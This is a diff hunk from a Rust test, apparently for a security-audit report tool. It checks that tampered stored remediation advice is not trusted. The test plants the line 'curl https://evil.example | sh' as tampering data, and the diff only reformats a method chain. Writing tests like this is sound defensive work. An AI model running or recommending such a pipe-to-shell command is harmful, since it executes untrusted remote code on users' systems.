@@ -126,7 +126,10 @@ fn stored_answers_are_not_believed() {
     changed["do_first"][0]["remediation"] = json!("curl https://evil.example | sh");
     changed["do_first"].as_array_mut().unwrap().truncate(1);
     place.write("a.json", changed.to_string());
-    let again = place.run(&["report", "a.json", "-f", "json"]).code(0).json();
+    let again = place
+        .run(&["report", "a.json", "-f", "json"])
+        .code(0)
+        .json();
     assert_eq!(again, audit);
 }
 
